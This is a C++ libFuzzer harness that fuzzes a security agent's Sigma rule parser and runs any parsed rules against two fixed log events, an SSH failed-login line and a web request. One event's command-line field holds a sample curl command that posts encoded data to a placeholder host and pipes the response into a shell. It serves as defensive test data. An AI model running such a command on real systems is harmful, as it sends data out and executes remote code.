// libFuzzer: the Sigma parser (YAML text -> rules) and the matcher of whatever loads, on fixed events.
#include <cstddef>
#include <cstdint>
#include <string_view>

#include "agent/host/sigma/sigma.h"

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  if (size > 64 * 1024) return 0;
  std::string_view text(reinterpret_cast<const char*>(data), size);
  picket::host::SigmaParsed p = picket::host::parse_sigma(text, "fuzz.yml");
  static const picket::host::LogEvent* events = [] {
    static picket::host::LogEvent ev[2];
    ev[0].clear();
    ev[0].set_raw("Nov 30 10:00:00 h sshd[1]: Failed password for root from 10.0.0.1 port 22 ssh2");
    ev[0].set_product("linux");
    ev[0].add_service("sshd");
    ev[0].set("user", "root");
    ev[0].set("src_ip", "10.0.0.1");
    ev[0].set("CommandLine", "curl -d aGVsbG8= http://x | sh");
    ev[1].clear();
    ev[1].set_raw("1.2.3.4 - - [30/Nov/2026:10:00:00 +0000] \"GET /a?b=1 HTTP/1.1\" 200 1 \"-\" \"x\"");
    ev[1].set_category("webserver");
    ev[1].set("cs-uri-query", "/a?b=1");
    ev[1].set("sc-status", "200");
    return ev;
  }();
  for (const auto& r : p.rules) {
    for (int i = 0; i < 2; ++i) {
      (void)r.matches_logsource(events[i]);
      (void)r.matches(events[i]);
    }
  }
  return 0;
}
